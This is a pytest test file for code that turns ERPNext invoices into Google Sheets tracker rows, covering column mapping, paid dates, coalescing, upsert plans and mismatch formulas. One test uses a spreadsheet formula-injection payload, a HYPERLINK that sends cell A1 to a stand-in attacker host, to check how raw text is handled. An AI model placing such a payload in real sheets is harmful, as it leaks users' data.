"""Invoice Tracker rows: column mapping, configuration, paid date, coalescing, upsert plans, formulas."""

from __future__ import annotations

import random
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import pytest

from shared.core.envelope import Envelope, Json
from shared.errors import MappingError
from shared.sheets.rows import (
    DEFAULT_COLUMNS,
    IndexedRow,
    InvoiceFacts,
    RowDelete,
    RowWrite,
    TrackerConfig,
    coalesce,
    column_letter,
    header_row,
    invoice_facts,
    mismatch_formula,
    mismatch_formula_for,
    paid_date_for,
    paid_date_from_cell,
    parse_columns,
    plan_upsert,
    render_row,
)

SITE = "https://erp.example.com"
CONFIG = TrackerConfig(site_url=SITE)

SALES: dict[str, Json] = {
    "doctype": "Sales Invoice",
    "name": "ACC-SINV-2026-00001",
    "customer": "Acme Ltd",
    "project": "PROJ-0001",
    "posting_date": "2026-11-05",
    "grand_total": 1234.5,
    "currency": "EUR",
    "status": "Partly Paid",
    "outstanding_amount": 234.5,
    "owner": "ann@example.com",
    "modified": "2026-11-23 10:00:00.000001",
    "docstatus": 1,
}
PURCHASE: dict[str, Json] = {
    "doctype": "Purchase Invoice",
    "name": "ACC-PINV-2026-00007",
    "supplier": "Builders & Sons",
    "project": "PROJ-0002",
    "posting_date": "2026-10-31",
    "grand_total": 900,
    "currency": "USD",
    "status": "Unpaid",
    "outstanding_amount": 900,
    "owner": "bob@example.com",
    "modified": "2026-11-01 08:30:00",
    "docstatus": 1,
    "bill_no": "B-17",
}


def facts_of(
    doc: Mapping[str, Json],
    *,
    user: str | None = "Ann Lee",
    manager: str | None = "Max Mustermann",
    paid: date | None = None,
    deleted: bool = False,
) -> InvoiceFacts:
    doctype = doc["doctype"]
    assert isinstance(doctype, str)
    return invoice_facts(
        doc,
        doctype=doctype,
        user_full_name=user,
        project_manager=manager,
        paid_date=paid,
        deleted=deleted,
    )


def cells_of(facts: InvoiceFacts, config: TrackerConfig = CONFIG) -> dict[str, object]:
    return dict(zip(config.columns, render_row(facts, config), strict=True))


# --- column mapping ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("doc", "column", "expected"),
    [
        (SALES, "invoice", "ACC-SINV-2026-00001"),
        (SALES, "type", "client"),
        (SALES, "project", "PROJ-0001"),
        (SALES, "counterparty", "Acme Ltd"),
        (SALES, "month", "2026-11"),
        (SALES, "amount", 1234.5),
        (SALES, "currency", "EUR"),
        (SALES, "entered_by", "Ann Lee"),
        (SALES, "project_manager", "Max Mustermann"),
        (SALES, "status", "Partly Paid"),
        (SALES, "paid_date", ""),
        (SALES, "outstanding", 234.5),
        (SALES, "erpnext_link", f"{SITE}/app/sales-invoice/ACC-SINV-2026-00001"),
        (SALES, "last_modified", "2026-11-23 10:00:00.000001"),
        (PURCHASE, "invoice", "ACC-PINV-2026-00007"),
        (PURCHASE, "type", "subcontractor"),
        (PURCHASE, "project", "PROJ-0002"),
        (PURCHASE, "counterparty", "Builders & Sons"),
        (PURCHASE, "month", "2026-10"),
        (PURCHASE, "amount", 900.0),
        (PURCHASE, "currency", "USD"),
        (PURCHASE, "entered_by", "Ann Lee"),
        (PURCHASE, "project_manager", "Max Mustermann"),
        (PURCHASE, "status", "Unpaid"),
        (PURCHASE, "paid_date", ""),
        (PURCHASE, "outstanding", 900.0),
        (PURCHASE, "erpnext_link", f"{SITE}/app/purchase-invoice/ACC-PINV-2026-00007"),
        (PURCHASE, "last_modified", "2026-11-01 08:30:00"),
    ],
)
def test_each_column_shows_its_field_when_the_invoice_is_complete(
    doc: dict[str, Json], column: str, expected: object
) -> None:
    cell = cells_of(facts_of(doc))[column]
    assert cell == expected
    assert type(cell) is type(expected)


def test_default_row_has_every_column_in_the_documented_order() -> None:
    assert DEFAULT_COLUMNS == (
        "invoice",
        "type",
        "project",
        "counterparty",
        "month",
        "amount",
        "currency",
        "entered_by",
        "project_manager",
        "status",
        "paid_date",
        "outstanding",
        "erpnext_link",
        "last_modified",
    )
    assert len(render_row(facts_of(SALES), CONFIG)) == len(header_row(CONFIG)) == 14
    assert header_row(CONFIG)[7:9] == ("Entered by", "Project manager")


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
        "=1+1",
        "+SUM(A:A)",
        "'quoted",
    ],
)
def test_text_starting_like_a_formula_is_rendered_unchanged_when_written_raw(value: str) -> None:
    doc = {**SALES, "customer": value, "project": value}
    cells = cells_of(facts_of(doc))
    assert cells["counterparty"] == value
    assert cells["project"] == value


@pytest.mark.parametrize(
    ("currency", "grand_total", "amount"),
    [
        ("EUR", 1234.5, 1234.5),
        ("USD", 10, 10.0),
        ("JPY", 150000, 150000.0),
        ("KWD", 12.345, 12.345),
        ("INR", "99999.99", 99999.99),
        ("GBP", 0, 0.0),
        ("CHF", -50.25, -50.25),
    ],
)
def test_currency_is_kept_as_sent_and_amount_is_a_number_when_currencies_differ(
    currency: str, grand_total: Json, amount: float
) -> None:
    cells = cells_of(facts_of({**SALES, "currency": currency, "grand_total": grand_total}))
    assert cells["currency"] == currency
    assert cells["amount"] == amount and isinstance(cells["amount"], float)


@pytest.mark.parametrize("project", [None, "", "   "])
def test_project_cell_is_empty_when_the_invoice_has_no_project(project: Json) -> None:
    doc = {**SALES, "project": project}
    assert cells_of(facts_of(doc, manager=None))["project"] == ""


def test_project_cell_is_empty_when_the_field_is_absent() -> None:
    doc = {key: value for key, value in SALES.items() if key != "project"}
    assert cells_of(facts_of(doc, manager=None))["project"] == ""


@pytest.mark.parametrize("manager", [None, "", "  "])
def test_manager_cell_is_empty_when_no_manager_is_known(manager: str | None) -> None:
    assert cells_of(facts_of(SALES, manager=manager))["project_manager"] == ""


@pytest.mark.parametrize(
    ("user", "owner", "expected"),
    [
        ("Ann Lee", "ann@example.com", "Ann Lee"),
        (None, "ann@example.com", "ann@example.com"),
        ("", "ann@example.com", "ann@example.com"),
        (None, None, ""),
    ],
)
def test_entered_by_is_the_full_name_and_the_user_id_when_the_name_is_unknown(
    user: str | None, owner: Json, expected: str
) -> None:
    assert cells_of(facts_of({**SALES, "owner": owner}, user=user))["entered_by"] == expected


@pytest.mark.parametrize(
    ("posting_date", "month"),
    [
        ("2026-01-01", "2026-01"),
        ("2026-12-31", "2026-12"),
        ("2025-02-28 00:00:00", "2025-02"),
        (None, ""),
        ("", ""),
    ],
)
def test_month_comes_from_the_posting_date(posting_date: Json, month: str) -> None:
    assert cells_of(facts_of({**SALES, "posting_date": posting_date}))["month"] == month


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("posting_date", "last tuesday"),
        ("grand_total", "lots"),
        ("grand_total", True),
        ("grand_total", "nan"),
        ("outstanding_amount", {"amount": 1}),
        ("name", None),
    ],
)
def test_unmappable_values_are_a_mapping_error(field: str, value: Json) -> None:
    with pytest.raises(MappingError):
        facts_of({**SALES, field: value})


def test_other_doctypes_have_no_row() -> None:
    with pytest.raises(MappingError, match="Quotation"):
        invoice_facts(
            SALES, doctype="Quotation", user_full_name=None, project_manager=None, paid_date=None
        )


def test_missing_amounts_render_as_empty_cells_that_clear_old_values() -> None:
    doc = {**SALES, "grand_total": None, "outstanding_amount": None, "currency": None}
    cells = cells_of(facts_of(doc))
    assert (cells["amount"], cells["outstanding"], cells["currency"]) == ("", "", "")
    assert None not in render_row(facts_of(doc), CONFIG)


def test_link_is_url_encoded_and_ignores_a_trailing_slash_in_the_site_url() -> None:
    config = TrackerConfig(site_url=SITE + "/")
    cells = cells_of(facts_of({**SALES, "name": "SINV 1/2#3"}), config)
    assert cells["erpnext_link"] == f"{SITE}/app/sales-invoice/SINV%201%2F2%233"


# --- status, cancelled, paid date --------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "docstatus", "deleted", "shown"),
    [
        ("Paid", 1, False, "Paid"),
        ("Draft", 0, False, "Draft"),
        ("Overdue", 1, False, "Overdue"),
        ("Cancelled", 2, False, "VOID"),
        ("Unpaid", 2, False, "VOID"),
        ("Cancelled", None, False, "VOID"),
        ("Draft", 0, True, "Gone"),
        ("Cancelled", 2, True, "Gone"),
    ],
)
def test_status_cell_shows_the_configured_labels_when_cancelled_or_deleted(
    status: str, docstatus: int | None, deleted: bool, shown: str
) -> None:
    config = TrackerConfig(site_url=SITE, cancelled_label="VOID", deleted_label="Gone")
    doc = {**SALES, "status": status, "docstatus": docstatus}
    assert cells_of(facts_of(doc, deleted=deleted), config)["status"] == shown


@pytest.mark.parametrize(
    ("previous", "status", "modified", "expected"),
    [
        (None, "Paid", "2026-11-20 17:45:00.123456", date(2026, 11, 20)),
        (date(2026, 11, 2), "Paid", "2026-11-20 17:45:00", date(2026, 11, 2)),
        (date(2026, 11, 2), "Unpaid", "2026-11-20 17:45:00", None),
        (None, "Partly Paid", "2026-11-20 17:45:00", None),
        (None, "Cancelled", "2026-11-20 17:45:00", None),
        (None, "Paid", None, None),
        (None, "Paid", "not a stamp", None),
    ],
)
def test_paid_date_is_the_first_day_seen_paid_and_cleared_when_no_longer_paid(
    previous: date | None, status: str, modified: str | None, expected: date | None
) -> None:
    assert paid_date_for(previous, {**SALES, "status": status}, modified) == expected


def test_paid_date_cell_is_iso_text_when_given() -> None:
    facts = facts_of({**SALES, "status": "Paid"}, paid=date(2026, 11, 20))
    assert cells_of(facts)["paid_date"] == "2026-11-20"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("2026-11-20", date(2026, 11, 20)),
        (" 2026-11-20 ", date(2026, 11, 20)),
        ("", None),
        (None, None),
        ("someday", None),
        ("3/5/2026", None),  # text the sheet's locale did not take as a date: day order unknown
        (46346, date(2026, 11, 20)),  # a date typed into the sheet: its serial number
        (46346.75, date(2026, 11, 20)),  # a date and time: the day is the whole part
        (2.5, date(1900, 1, 1)),  # Google's own example: 1900-01-01 at noon
        (True, None),
        (float("nan"), None),
        (1e12, None),  # beyond any date
    ],
)
def test_paid_date_reads_back_from_the_cell_it_was_written_to(
    cell: str | float | None, expected: date | None
) -> None:
    assert paid_date_from_cell(cell) == expected


def test_paid_date_round_trips_through_the_row() -> None:
    facts = facts_of({**SALES, "status": "Paid"}, paid=date(2026, 11, 20))
    cell = cells_of(facts)["paid_date"]
    assert isinstance(cell, str)
    assert paid_date_for(
        paid_date_from_cell(cell), {**SALES, "status": "Paid"}, stamp(9999)
    ) == date(2026, 11, 20)


# --- configuration -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "columns"),
    [
        ("invoice,status", ("invoice", "status")),
        (
            " Invoice , Entered by , project-manager,status ",
            ("invoice", "entered_by", "project_manager", "status"),
        ),
        ("status,amount,invoice,", ("status", "amount", "invoice")),
    ],
)
def test_parse_columns_accepts_known_names_in_any_order(
    text: str, columns: tuple[str, ...]
) -> None:
    assert parse_columns(text) == columns


def test_parse_columns_lists_every_unknown_name() -> None:
    with pytest.raises(ValueError, match="colour, vat") as caught:
        parse_columns("invoice,colour,status,vat")
    assert "known columns: invoice, type" in str(caught.value)


@pytest.mark.parametrize(
    ("text", "message"), [("invoice,status,invoice", "twice"), (" , ", "at least")]
)
def test_parse_columns_rejects_repeats_and_empty_lists(text: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        parse_columns(text)


def test_row_follows_the_configured_column_order() -> None:
    config = TrackerConfig(
        site_url=SITE, columns=("status", "amount", "invoice", "currency", "last_modified")
    )
    assert render_row(facts_of(SALES), config) == (
        "Partly Paid",
        1234.5,
        "ACC-SINV-2026-00001",
        "EUR",
        SALES["modified"],
    )
    assert header_row(config) == ("Status", "Amount", "Invoice", "Currency", "Last modified")


@pytest.mark.parametrize(
    "kwargs",
    [
        {"columns": ("invoice", "vat")},
        {"columns": ("invoice", "amount", "last_modified")},
        {"columns": ("invoice", "status")},
        {"columns": ("status", "last_modified")},
        {"deleted_policy": "archive"},
    ],
)
def test_config_rejects_unknown_columns_no_status_and_unknown_policies(
    kwargs: dict[str, object],
) -> None:
    with pytest.raises(ValueError):
        TrackerConfig(site_url=SITE, **kwargs)  # type: ignore[arg-type]


# --- coalescing --------------------------------------------------------------------------------

T0 = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def envelope(
    name: str,
    modified: str | None,
    *,
    event: str = "on_update",
    received: datetime = T0,
    docstatus: int = 1,
    marker: str = "",
    event_id: str | None = None,
) -> Envelope:
    doc: dict[str, Json] = {**SALES, "name": name, "modified": modified, "docstatus": docstatus}
    doc["remarks"] = marker
    return Envelope(
        event_id=event_id or f"{name}:{modified}:{event}:{marker}",
        event_type=f"erpnext.sales_invoice.{event}",
        site="erp.example.com",
        doctype="Sales Invoice",
        name=name,
        event=event,
        modified=modified,
        received_at=received,
        doc=doc,
    )


def stamp(minute: int) -> str:
    return (datetime(2026, 11, 23, 8, 0) + timedelta(minutes=minute)).strftime(
        "%Y-%m-%d %H:%M:%S.%f"
    )


def test_coalesce_keeps_exactly_the_newest_of_each_invoice_when_1000_events_are_shuffled() -> None:
    rng = random.Random(20261123)
    events: list[Envelope] = []
    newest: dict[str, str] = {}
    for number in range(1000):
        name = f"SINV-{number:04d}"
        versions = rng.sample(range(500), rng.randint(1, 4))
        newest[name] = stamp(max(versions))
        for version in versions:
            for copy in range(rng.randint(1, 3)):  # Frappe's retries deliver duplicates
                received = T0 + timedelta(seconds=rng.randint(0, 3600))
                events.append(envelope(name, stamp(version), received=received, marker=str(copy)))
    rng.shuffle(events)
    kept = coalesce(events)
    assert len(kept) == 1000
    assert {name: env.modified for name, env in kept.items()} == newest
    assert all(env.name == name for name, env in kept.items())


def test_coalesce_result_does_not_depend_on_delivery_order() -> None:
    rng = random.Random(7)
    events = [
        envelope(
            f"SINV-{rng.randint(0, 30)}",
            stamp(rng.randint(0, 5)),
            event=event,
            received=T0 + timedelta(seconds=rng.randint(0, 9)),
            docstatus=rng.randint(0, 2),
        )
        for event in ("on_update", "on_submit", "on_trash", "on_change")
        for _ in range(100)
    ]
    expected = coalesce(events)
    for _ in range(20):
        rng.shuffle(events)
        result = coalesce(events)
        assert {n: e.event_id for n, e in result.items()} == {
            n: e.event_id for n, e in expected.items()
        }


@pytest.mark.parametrize(
    ("first", "second", "winner"),
    [
        # (modified, event, received second offset, docstatus, marker)
        ((stamp(1), "on_update", 0, 1, "a"), (stamp(2), "on_update", 0, 1, "b"), "b"),
        ((stamp(2), "on_update", 5, 1, "a"), (stamp(1), "on_update", 9, 1, "b"), "a"),
        ((stamp(1), "on_trash", 0, 0, "a"), (stamp(1), "on_update", 9, 0, "b"), "a"),
        ((stamp(1), "on_update", 0, 0, "a"), (stamp(1), "on_submit", 0, 1, "b"), "b"),
        ((stamp(1), "on_submit", 9, 1, "a"), (stamp(1), "on_update", 0, 0, "b"), "a"),
        ((stamp(1), "on_change", 0, 1, "a"), (stamp(1), "on_update", 3, 1, "b"), "b"),
        ((stamp(1), "on_change", 3, 1, "a"), (stamp(1), "on_update", 0, 1, "b"), "a"),
        ((stamp(1), "on_change", 0, 1, "a"), (stamp(1), "on_update", 0, 1, "b"), "b"),
        ((stamp(1), "on_update", 0, 1, "b"), (stamp(1), "on_change", 0, 1, "a"), "b"),
        ((None, "on_update", 9, 1, "a"), (stamp(1), "on_update", 0, 1, "b"), "b"),
        (("garbled", "on_update", 9, 1, "a"), (stamp(1), "on_update", 0, 1, "b"), "b"),
        ((None, "on_update", 0, 1, "a"), (None, "on_update", 0, 1, "b"), "b"),
        ((None, "on_update", 0, 1, "b"), (None, "on_update", 0, 1, "a"), "b"),
    ],
)
def test_coalesce_breaks_ties_by_trash_then_docstatus_then_arrival_then_event_id(
    first: tuple[str | None, str, int, int, str],
    second: tuple[str | None, str, int, int, str],
    winner: str,
) -> None:
    pair = [
        envelope("SINV-1", m, event=e, received=T0 + timedelta(seconds=s), docstatus=d, marker=k)
        for m, e, s, d, k in (first, second)
    ]
    assert coalesce(pair)["SINV-1"].doc["remarks"] == winner


def test_coalesce_keeps_the_later_copy_when_copies_of_one_change_arrive_together() -> None:
    copies = [envelope("SINV-1", stamp(1), marker=m, event_id="same-change") for m in "xyz"]
    assert coalesce(copies)["SINV-1"].doc["remarks"] == "z"
    assert coalesce(copies[::-1])["SINV-1"].doc["remarks"] == "x"


# --- upsert planning ---------------------------------------------------------------------------


def sales(name: str, modified: str, **changes: Json) -> InvoiceFacts:
    return facts_of({**SALES, "name": name, "modified": modified, **changes})


SHEET = {
    "SINV-A": IndexedRow(2, stamp(10)),
    "SINV-B": IndexedRow(3, stamp(10)),
    "SINV-C": IndexedRow(7, stamp(10)),
    "SINV-D": IndexedRow(5, None),
}


@pytest.mark.parametrize(
    ("facts", "policy", "expected"),
    [
        (sales("SINV-A", stamp(11)), "remove", "update"),
        (sales("SINV-A", stamp(10)), "remove", "update"),
        (sales("SINV-A", stamp(9)), "remove", "stale"),
        (sales("SINV-D", stamp(1)), "remove", "update"),
        (sales("SINV-A", "garbled"), "remove", "update"),
        (sales("SINV-NEW", stamp(1)), "remove", "append"),
        (sales("SINV-A", stamp(11), status="Cancelled", docstatus=2), "remove", "update"),
        (sales("SINV-NEW", stamp(11), status="Cancelled", docstatus=2), "remove", "append"),
        (replace(sales("SINV-A", stamp(10)), deleted=True), "remove", "delete"),
        (replace(sales("SINV-A", stamp(10)), deleted=True), "mark", "update"),
        (replace(sales("SINV-A", stamp(9)), deleted=True), "mark", "stale"),
        (replace(sales("SINV-A", stamp(9)), deleted=True), "remove", "stale"),
        (replace(sales("SINV-NEW", stamp(10)), deleted=True), "remove", "ignored"),
        (replace(sales("SINV-NEW", stamp(10)), deleted=True), "mark", "append"),
    ],
)
def test_plan_updates_appends_skips_stale_and_handles_cancelled_and_deleted(
    facts: InvoiceFacts, policy: str, expected: str
) -> None:
    config = TrackerConfig(site_url=SITE, deleted_policy=policy)  # type: ignore[arg-type]
    plan = plan_upsert(SHEET, [facts], config)
    outcome = {
        "update": plan.updates,
        "append": plan.appends,
        "delete": plan.deletes,
        "stale": plan.stale,
        "ignored": plan.ignored,
    }
    assert [kind for kind, items in outcome.items() if items] == [expected]
    cells = render_row(facts, config)
    if expected == "update":
        assert plan.updates == (
            RowWrite(facts.name, SHEET[facts.name].row_number, cells, facts.modified),
        )
    elif expected == "append":
        assert plan.appends == (RowWrite(facts.name, None, cells, facts.modified),)
    elif expected == "delete":
        assert plan.deletes == (RowDelete(facts.name, SHEET[facts.name].row_number),)
    else:
        assert getattr(plan, expected) == (facts.name,)


def test_cancelled_row_stays_and_its_status_shows_the_cancelled_label() -> None:
    plan = plan_upsert(SHEET, [sales("SINV-B", stamp(12), status="Cancelled", docstatus=2)], CONFIG)
    (write,) = plan.updates
    assert write.row_number == 3
    assert dict(zip(CONFIG.columns, write.cells, strict=True))["status"] == "Cancelled"
    assert plan.deletes == ()


def test_marked_deleted_row_shows_the_deleted_label() -> None:
    config = TrackerConfig(site_url=SITE, deleted_policy="mark", deleted_label="Deleted in ERPNext")
    plan = plan_upsert(SHEET, [replace(sales("SINV-C", stamp(10)), deleted=True)], config)
    (write,) = plan.updates
    assert write.row_number == 7
    assert dict(zip(config.columns, write.cells, strict=True))["status"] == "Deleted in ERPNext"


def test_deletes_come_bottom_up_so_row_numbers_stay_valid() -> None:
    batch = [
        replace(sales(name, stamp(10)), deleted=True) for name in ("SINV-B", "SINV-C", "SINV-A")
    ] + [sales("SINV-D", stamp(20)), sales("SINV-Z", stamp(20))]
    plan = plan_upsert(SHEET, batch, CONFIG)
    assert [d.row_number for d in plan.deletes] == [7, 3, 2]
    assert [(w.name, w.row_number) for w in plan.updates] == [("SINV-D", 5)]
    assert [w.name for w in plan.appends] == ["SINV-Z"]


def test_removing_every_indexed_row_empties_the_top_one_instead_of_deleting_it() -> None:
    """Sheets refuses to delete every row below the frozen header (and fails the batch)."""
    batch = [replace(sales(name, stamp(10)), deleted=True) for name in SHEET]
    plan = plan_upsert(SHEET, batch, CONFIG)
    assert plan.clears == (RowDelete("SINV-A", 2),)
    assert [d.row_number for d in plan.deletes] == [7, 5, 3]
    assert plan.updates == plan.appends == ()


def test_removing_every_indexed_row_deletes_them_all_when_a_row_is_appended() -> None:
    batch = [replace(sales(name, stamp(10)), deleted=True) for name in SHEET]
    plan = plan_upsert(SHEET, [*batch, sales("SINV-Z", stamp(20))], CONFIG)
    assert [d.row_number for d in plan.deletes] == [7, 5, 3, 2]
    assert plan.clears == ()


def test_removing_some_rows_deletes_them() -> None:
    batch = [replace(sales(name, stamp(10)), deleted=True) for name in ("SINV-A", "SINV-B")]
    plan = plan_upsert(SHEET, batch, CONFIG)
    assert [d.row_number for d in plan.deletes] == [3, 2]
    assert plan.clears == ()


def test_plan_refuses_a_batch_that_was_not_coalesced() -> None:
    with pytest.raises(ValueError, match="coalesce"):
        plan_upsert({}, [sales("SINV-A", stamp(1)), sales("SINV-A", stamp(2))], CONFIG)


def test_1000_shuffled_events_plan_exactly_1000_rows_with_the_newest_values() -> None:
    rng = random.Random(1000)
    events = [
        envelope(f"SINV-{n:04d}", stamp(v), marker=f"v{v}")
        for n in range(1000)
        for v in rng.sample(range(100), 3)
    ]
    rng.shuffle(events)
    batch = [facts_of(env.doc, user=None, manager=None) for env in coalesce(events).values()]
    plan = plan_upsert({}, batch, CONFIG)
    assert len(plan.appends) == 1000 and not plan.updates and not plan.stale
    modified_col = CONFIG.index_of("last_modified")
    for write in plan.appends:
        versions = [e.modified for e in events if e.name == write.name]
        assert write.cells[modified_col] == max(v for v in versions if v)


# --- column letters and the mismatch formula ---------------------------------------------------


@pytest.mark.parametrize(
    ("index", "letters"),
    [
        (0, "A"),
        (1, "B"),
        (25, "Z"),
        (26, "AA"),
        (27, "AB"),
        (51, "AZ"),
        (52, "BA"),
        (701, "ZZ"),
        (702, "AAA"),
        (16383, "XFD"),
    ],
)
def test_column_letter(index: int, letters: str) -> None:
    assert column_letter(index) == letters


def test_column_letter_rejects_negative_indexes() -> None:
    with pytest.raises(ValueError):
        column_letter(-1)


def test_mismatch_formula_reads_overhead_projects_from_another_sheet_through_indirect() -> None:
    assert mismatch_formula(CONFIG, "H", "I", "C", "Overhead!$A:$A") == (
        '=AND($H2<>"", $I2<>"", $H2<>$I2, COUNTIF(INDIRECT("Overhead!$A:$A"), $C2)=0)'
    )


def test_mismatch_formula_quotes_a_sheet_name_inside_indirect() -> None:
    formula = mismatch_formula(CONFIG, "H", "I", "C", "'Overhead \"list\"'!A2:A")
    assert 'INDIRECT("\'Overhead ""list""\'!A2:A")' in formula


def test_mismatch_formula_inlines_configured_overhead_projects_without_a_range() -> None:
    config = TrackerConfig(site_url=SITE, overhead_projects=frozenset({"PROJ-9", 'Say "hi"'}))
    assert mismatch_formula(config, "B", "D", "A", None) == (
        '=AND($B2<>"", $D2<>"", $B2<>$D2, $A2<>"PROJ-9", $A2<>"Say ""hi""")'
    )


def test_mismatch_formula_without_overhead_compares_the_names_only() -> None:
    assert mismatch_formula(CONFIG, "H", "I", "C", None) == '=AND($H2<>"", $I2<>"", $H2<>$I2)'


def test_mismatch_formula_for_follows_the_configured_column_order() -> None:
    assert mismatch_formula_for(CONFIG, "Overhead!A:A") == (
        '=AND($H2<>"", $I2<>"", $H2<>$I2, COUNTIF(INDIRECT("Overhead!A:A"), $C2)=0)'
    )
    config = TrackerConfig(
        site_url=SITE,
        columns=("project_manager", "status", "project", "entered_by", "invoice", "last_modified"),
    )
    assert mismatch_formula_for(config, None) == '=AND($D2<>"", $A2<>"", $D2<>$A2)'
    bare = TrackerConfig(site_url=SITE, columns=("invoice", "status", "last_modified"))
    with pytest.raises(ValueError, match="entered_by"):
        mismatch_formula_for(bare, None)
